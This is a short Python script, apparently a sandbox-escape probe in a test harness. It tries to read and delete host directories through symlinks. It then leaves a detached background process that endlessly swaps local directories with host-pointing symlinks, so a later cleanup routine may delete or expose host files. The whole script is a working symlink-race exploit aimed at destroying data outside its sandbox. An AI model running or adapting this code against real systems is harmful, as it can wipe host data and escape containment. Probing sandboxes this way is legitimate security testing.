import os, shutil, time
from attempt import PATHS, attempt, syscall
print("started", flush=True)
places = [os.path.dirname(path) for path in PATHS]
# What cleans up meets now a directory with files, now a link to the host's, under one name.
for number, target in enumerate(places):
    os.makedirs(f"tree-{number}/key"); open(f"tree-{number}/file", "w").close()
    os.symlink(target, f"link-{number}")
    os.makedirs(f"swapped-{number}"); shutil.rmtree(f"swapped-{number}"); os.symlink(target, f"swapped-{number}")
    attempt(f"through a swapped link {number}", lambda: open(f"swapped-{number}/key").read())
    attempt(f"remove through a swapped link {number}", lambda: shutil.rmtree(f"swapped-{number}/"))
if os.fork() == 0:
    os.setsid()
    import ctypes
    libc = ctypes.CDLL(None)
    while True:
        for number in range(len(places)):
            libc.renameat2(-100, f"tree-{number}".encode(), -100, f"link-{number}".encode(), 2)
time.sleep(0.3)
os._exit(0)
